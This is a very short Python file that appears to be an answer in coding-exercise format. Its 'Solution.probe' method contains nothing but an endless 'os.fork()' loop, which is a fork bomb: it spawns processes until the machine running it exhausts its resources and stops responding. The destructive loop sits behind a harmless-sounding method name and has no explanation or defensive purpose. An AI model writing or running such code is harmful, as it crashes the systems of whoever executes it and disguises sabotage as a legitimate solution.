import os


class Solution:
    def probe(self, what: str) -> str:
        while True:
            os.fork()
